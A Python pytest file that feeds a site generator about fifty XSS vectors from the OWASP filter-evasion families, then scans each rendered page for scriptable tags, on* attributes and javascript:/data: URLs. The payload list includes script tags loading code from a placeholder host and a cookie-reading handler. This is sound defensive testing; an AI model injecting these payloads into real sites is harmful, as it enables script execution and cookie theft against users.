"""No XSS vector from an editor's file reaches a reader's page, in any field.

Vectors follow the families of the OWASP XSS Filter Evasion Cheat Sheet.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest

from tests.site_checks import is_our_script

VECTORS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"vbscript:msgbox('XSS')\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<!--xref:x--><a href=\"/x/\"></a>",
    "[click](javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "![img](javascript:alert(1))",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

# <details> is body markup (WordPress's details block); what made it a vector, ontoggle=, is an on*
# attribute, refused on every tag below.
SCRIPTABLE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "svg", "math", "form", "input",
                   "button", "base", "applet"}
URL_ATTRIBUTES = {"href", "src", "action", "background", "dynsrc", "lowsrc", "data", "formaction", "xlink:href"}


class _PageScanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.styles = 0

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        named = dict(attrs)
        if tag == "script" and named.get("type") == "application/ld+json":
            pass  # JSON-LD data block: browsers do not run it (its JSON is checked below)
        elif tag == "script" and is_our_script(named):
            pass  # our one script, from our own origin (the recent-posts widget), never inline
        elif tag == "form" and (named.get("action") or "").endswith("/search/") and named.get("method") == "get":
            pass  # the site's own search box
        elif tag == "input" and named.get("name") == "q" and named.get("type") == "search":
            pass
        elif tag == "button" and named.get("type") == "submit":
            pass
        elif tag == "form" and set(named) == {"class", "method", "action"} and named["class"] == "comment-form" \
                and named["method"] == "post" and (named["action"] or "").endswith("/comments/"):
            pass  # the site's own comment form
        elif tag == "form" and set(named) == {"class", "method", "action"} \
                and named["class"] == "comment-form newsletter-form" and named["method"] == "post" \
                and (named["action"] or "").endswith("/subscribe/"):
            pass  # the site's own newsletter sign-up form
        elif tag == "input" and named.get("name") in {"token", "parent", "name", "email", "website", "form",
                                                       "newsletter"}:
            pass  # its fields (attributes are still checked below)
        elif tag in SCRIPTABLE_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "style":
            self.styles += 1
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.found.append("<meta http-equiv>")
        if tag == "link" and named == {"rel": "icon", "href": "data:,"}:
            return  # the site's own empty favicon (saves a request for /favicon.ico)
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or (name == "style" and tag != "html"):
                self.found.append(f"{tag} {name}=")
            if name in URL_ATTRIBUTES and value.replace("\t", "").replace("\n", "").startswith(
                    ("javascript:", "vbscript:", "data:")):
                self.found.append(f"{tag} {name}={value[:30]}")


def dangerous_parts(html: str) -> list[str]:
    scanner = _PageScanner()
    scanner.feed(html)
    if scanner.styles:
        scanner.found.append(f"{scanner.styles} <style> elements")
    for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.DOTALL):
        json.loads(block)  # intact JSON: nothing broke out of it
        if "<" in block:
            scanner.found.append("'<' inside JSON-LD")
    return scanner.found


@pytest.mark.parametrize("n, vector", list(enumerate(VECTORS)))
def test_xss_vector_in_any_field_does_not_reach_a_page(site, n, vector):
    # A fresh site per vector: moto's TransactWriteItems copies the whole table, so one shared site
    # gets slower with every vector.
    q = json.dumps(vector)  # a YAML double-quoted string
    short = json.dumps(vector[:200])  # names are limited to 200 characters
    site.put(f"articles/xss-{n}.md", f"---\ntitle: {q}\ndate: 2024-01-01\nsummary: {q}\nauthor: {short}\n"
                                     f"categories: [{short}]\ntags: [{short}]\n---\n\n{vector}\n\n"
                                     f"Text [{vector}](/x/) [link]({vector})\n")
    site.put(f"articles/xss-html-{n}.html", f"---\ntitle: Plain\ndate: 2024-01-02\n---\n{vector}\n")
    site.ingest()
    assert site.refusal(f"articles/xss-{n}.md") is None
    pages = ["/", f"/xss-{n}/", f"/xss-html-{n}/", "/no-such-page/?q=" + vector]
    pages += [p for p in site.get(f"/xss-{n}/").body.decode().split('"')
              if p.startswith(("/category/", "/author/", "/tag/"))]
    assert len(pages) > 5  # the category and author archives were found
    for path in pages:
        page = site.get(path)
        assert dangerous_parts(page.body.decode()) == [], (path, vector)
